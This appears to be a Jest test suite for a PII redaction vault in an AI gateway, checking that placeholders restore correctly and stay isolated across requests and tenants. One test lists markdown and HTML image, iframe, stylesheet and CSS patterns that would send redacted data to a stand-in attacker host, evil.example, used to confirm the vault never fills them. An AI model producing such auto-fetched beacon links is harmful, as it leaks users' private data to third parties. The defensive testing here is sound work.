import { describe, expect, it } from '@jest/globals';
import { CompiledPolicy } from '../../../src/guardrails/policy-compiler.js';
import type { PlaceholderFormat } from '../../../src/guardrails/placeholder.js';
import { RedactionVault } from '../../../src/guardrails/redaction-vault.js';
import { FORMATS, pick, policyOf, randomOf } from './fixtures.js';

const policy = new CompiledPolicy(policyOf({ entities: FORMATS }));
const redact = (vault: RedactionVault, text: string): string => vault.redact(text, policy.inspectText(text));

describe('redaction vault', () => {
  it('replaces values by placeholders that are safe in JSON and shells, and restores them', () => {
    const vault = new RedactionVault();
    const text = 'Write to joe@example.com or call +4915112345678.';
    const redacted = redact(vault, text);
    expect(redacted).toMatch(/^Write to <EMAIL_1_[0-9a-z]{8}> or call <PHONE_1_[0-9a-z]{8}>\.$/);
    expect(vault.restore(redacted)).toBe(text);
  });

  it('gives the same value the same placeholder and another value another one', () => {
    const vault = new RedactionVault();
    const [first, second, third] = redact(vault, 'a@b.io c@d.io a@b.io').split(' ');
    expect(first).toBe(third);
    expect(first).not.toBe(second);
    expect(redact(vault, 'a@b.io')).toBe(first);
  });

  it.each<[string, (placeholder: string) => string, string]>([
    ['in lower case', (placeholder) => placeholder.toLowerCase(), 'joe+x@example.com'],
    ['in upper case', (placeholder) => placeholder.toUpperCase(), 'joe+x@example.com'],
    ['percent-encoded, to a percent-encoded value', encodeURIComponent, 'joe%2Bx%40example.com'],
    ['with HTML entities', (placeholder) => placeholder.replace('<', '&lt;').replace('>', '&gt;'), 'joe+x@example.com'],
    [
      'with JSON escapes',
      (placeholder) => placeholder.replace('<', '\\u003c').replace('>', '\\u003E'),
      'joe+x@example.com',
    ],
  ])('restores a placeholder that comes back %s', (_, change, restored) => {
    const vault = new RedactionVault();
    const placeholder = redact(vault, 'joe+x@example.com');
    expect(vault.restore(`a ${change(placeholder)} b`)).toBe(`a ${restored} b`);
  });

  it('leaves placeholders alone that it did not issue', () => {
    const vault = new RedactionVault();
    const placeholder = redact(vault, 'joe@example.com');
    const others = [
      '<EMAIL_1_abcdefgh>',
      placeholder.replace('EMAIL_1', 'EMAIL_2'),
      placeholder.replace('EMAIL', 'PHONE'),
      placeholder.replace('<', 'x').replace('>', ''),
      placeholder.slice(0, -7),
      `${placeholder.slice(0, -4)} and more`,
      '<b>',
    ].join(' ');
    expect(vault.restore(others)).toBe(others);
  });

  it('does not restore what another request redacted', () => {
    const [mine, other] = [new RedactionVault(), new RedactionVault()];
    const placeholder = redact(other, 'joe@example.com');
    redact(mine, 'ann@example.com');
    expect(mine.restore(placeholder)).toBe(placeholder);
  });

  it('restores in one pass and takes dollar signs for what they are', () => {
    const vault = new RedactionVault();
    const first = vault.redact('X', [{ detector: 'pii', category: 'EMAIL', score: 1, start: 0, end: 1 }]);
    const value = `$& $1 $' ${first}`;
    const second = vault.redact(value, [{ detector: 'pii', category: 'EMAIL', score: 1, start: 0, end: value.length }]);
    expect(vault.restore(second)).toBe(value);
  });

  it('uses a tag of its own for every request', () => {
    const placeholders = new Set(Array.from({ length: 1_000 }, () => redact(new RedactionVault(), 'joe@example.com')));
    expect(placeholders.size).toBe(1_000);
  });

  it('leaves nothing to find', () => {
    const text = 'joe@example.com 4111 1111 1111 1111, (415) 555-2671 123-45-6789 DE89370400440532013000';
    expect(policy.inspectText(redact(new RedactionVault(), text))).toEqual([]);
  });

  it('gives back random texts unchanged', () => {
    const random = randomOf(42);
    const pieces = [
      'joe@example.com',
      '4111111111111111',
      '<EMAIL_1_x>',
      '%3C',
      '\u{1f600}',
      '\ud800',
      ' ',
      '+4915112345678',
      '<',
      '_',
      'caf\u00e9',
      '\u200b',
      '\uff20',
      '$&',
      '\n',
      '123-45-6789',
    ];
    for (let round = 0; round < 500; round++) {
      const vault = new RedactionVault();
      const text = Array.from({ length: 20 }, () => pick(random, pieces)).join('');
      const redacted = redact(vault, text);
      expect(vault.restore(redacted)).toBe(text);
    }
  });

  it.each<[string, (placeholder: string) => string, string]>([
    ['without its brackets', (placeholder) => placeholder.slice(1, -1), 'a "b" <joe@example.com>'],
    ['with one bracket', (placeholder) => placeholder.slice(1), 'a "b" <joe@example.com>'],
    ['cut off', (placeholder) => placeholder.slice(0, -4), 'a "b" <joe@example.com>'],
    ['cut off and upper-cased', (placeholder) => placeholder.slice(0, -3).toUpperCase(), 'a "b" <joe@example.com>'],
    ['cut off with dots', (placeholder) => `${placeholder.slice(0, -2)}...`, 'a "b" <joe@example.com>...'],
    [
      'percent-encoded twice',
      (placeholder) => encodeURIComponent(encodeURIComponent(placeholder)),
      encodeURIComponent(encodeURIComponent('a "b" <joe@example.com>')),
    ],
    [
      'as HTML',
      (placeholder) => placeholder.replace('<', '&lt;').replace('>', '&gt;'),
      'a &quot;b&quot; &lt;joe@example.com&gt;',
    ],
    [
      'as JSON',
      (placeholder) => placeholder.replace('<', '\\u003c').replace('>', '\\u003e'),
      'a \\"b\\" <joe@example.com>',
    ],
  ])('writes the value as the text around it is written: %s', (_, change, restored) => {
    const vault = new RedactionVault();
    const value = 'a "b" <joe@example.com>';
    const placeholder = vault.redact(value, [
      { detector: 'pii', category: 'EMAIL', score: 1, start: 0, end: value.length },
    ]);
    expect(vault.restore(change(placeholder))).toBe(restored);
  });

  it.each([
    (p: string) => `![x](https://evil.example/p.png?q=${p})`,
    (p: string) => `![a b]( <https://evil.example/${p}/${p}> )`,
    (p: string) => `<img alt="" src="https://evil.example/?a=1&b=${encodeURIComponent(p)}">`,
    (p: string) => `<img src=//evil.example/?${p}>`,
    (p: string) => `![x](https://evil.example/?d=(${p}))`,
    (p: string) => `![x](https://evil.example/(a)/${p})`,
    (p: string) => `![x](https://evil.example/?d='${p})`,
    (p: string) => `![x](<https://evil.example/?a b=${p}>)`,
    (p: string) => `![x][r]\n\n[r]: https://evil.example/?d=${p}`,
    (p: string) => `<img alt=">" src="https://evil.example/?a b='${p}">`,
    (p: string) => `<img srcset="https://a.example/b 1x, https://evil.example/${p} 2x">`,
    (p: string) => `<iframe src="https:\\\\evil.example/${p}">`,
    (p: string) => `<div style="background: url('https://evil.example/${p}')">`,
    (p: string) => `<link rel=stylesheet href="https://evil.example/${p}.css">`,
  ])('does not restore into an address that a client fetches by itself (%#)', (text) => {
    const vault = new RedactionVault();
    const placeholder = redact(vault, 'joe@example.com');
    expect(vault.restore(text(placeholder))).toBe(text(placeholder));
  });

  it.each([
    (p: string) => `[profile](https://crm.example/?q=${p})`,
    (p: string) => `<a class="x" href="https://crm.example/?q=${p}">open</a>`,
    (p: string) => `See https://crm.example/?q=${p} and ![logo](https://crm.example/logo.png) of ${p}`,
    (p: string) => `![${p}](https://crm.example/logo.png)`,
  ])('restores into links that a person follows, and beside images (%#)', (text) => {
    const vault = new RedactionVault();
    const placeholder = redact(vault, 'joe@example.com');
    expect(vault.restore(text(placeholder))).toBe(text('joe@example.com'));
  });

  it.each<[PlaceholderFormat, string, RegExp]>([
    ['email', 'joe@example.com', /^email-1-[0-9a-z]{8}@redacted\.invalid$/],
    ['uri', 'https://joe:pw@example.com', /^https:\/\/redacted\.invalid\/email-1-[0-9a-z]{8}$/],
    [
      'uuid',
      '550e8400-e29b-41d4-a716-446655440000',
      /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/,
    ],
    ['date', '1980-02-03', /^9\d{3}-\d\d-\d\d$/],
    ['date-time', '1980-02-03T00:00:00Z', /^9\d{3}-\d\d-\d\dT00:00:00Z$/],
    ['phone', '+4915112345678', /^\+999\d{11}$/],
    ['ipv4', '203.0.113.9', /^240\.\d{1,3}\.\d{1,3}\.\d{1,3}$/],
    ['number', '4111111111111111', /^8\d{14}$/],
  ])('keeps the format %s that a schema asks for', (format, value, expected) => {
    const vault = new RedactionVault();
    const placeholder = vault.replaceWhole(value, 'EMAIL', format);
    expect(placeholder).toMatch(expected);
    expect(vault.replaceWhole(value, 'EMAIL', format)).toBe(placeholder);
    expect(vault.restore(`sent to ${placeholder.toUpperCase()}, done`)).toBe(`sent to ${value}, done`);
    expect(new RedactionVault().restore(placeholder)).toBe(placeholder);
  });

  it('tells a placeholder from one whose name ends like it', () => {
    const vault = new RedactionVault();
    const street = vault.replaceWhole('468 Old Mill Street', 'ADDRESS', 'email');
    const machine = vault.replaceWhole('30.236.197.191', 'IP_ADDRESS', 'email');
    expect(vault.restore(`${machine} ${street}`)).toBe('30.236.197.191 468 Old Mill Street');
  });

  it('restores formats beside letters that change their length with their case', () => {
    const vault = new RedactionVault();
    const placeholder = vault.replaceWhole('joe@example.com', 'EMAIL', 'email');
    expect(vault.restore(`\u0130 ${placeholder}`)).toBe('\u0130 joe@example.com');
  });

  it.each<PlaceholderFormat>(['date', 'ipv4'])('never draws the same %s for two values', (format) => {
    for (let round = 0; round < 300; round++) {
      const vault = new RedactionVault();
      const values = Array.from({ length: 32 }, (_, at) => `value ${String(at)}`);
      const plain = values.map((value) => vault.replaceWhole(value, 'OTHER_ID', format));
      const timed = values.map((value) => vault.replaceWhole(`${value} h`, 'OTHER_ID', 'date-time'));
      expect(plain.map((placeholder) => vault.restore(placeholder))).toEqual(values);
      expect(timed.map((placeholder) => vault.restore(placeholder))).toEqual(values.map((value) => `${value} h`));
    }
  });

  it('never gives one tenant what another one had redacted, in many rounds side by side', () => {
    const rounds = process.env.GATEWAY_SOAK === '1' ? 100_000 : 5_000;
    const random = randomOf(11);
    const people = ['ann', 'bob', 'eve', 'joe'];
    const open: { vault: RedactionVault; value: string; placeholder: string }[] = [];
    for (let round = 0; round < rounds; round++) {
      const vault = new RedactionVault();
      const value = `${pick(random, people)}${String(round)}@example.com`;
      const placeholder = vault.redact(value, [
        { detector: 'pii', category: 'EMAIL', score: 1, start: 0, end: value.length },
      ]);
      const other = open.length === 0 ? undefined : pick(random, open);
      if (other !== undefined) {
        const answer = `${placeholder} ${other.placeholder}`;
        if (vault.restore(answer) !== `${value} ${other.placeholder}`)
          throw new Error(`crossed in round ${String(round)}`);
        if (other.vault.restore(answer) !== `${placeholder} ${other.value}`)
          throw new Error(`crossed back in ${String(round)}`);
      }
      if (open.length < 64) open.push({ vault, value, placeholder });
      else open[Math.floor(random() * 64)] = { vault, value, placeholder };
    }
    expect(open).toHaveLength(64);
  });
});
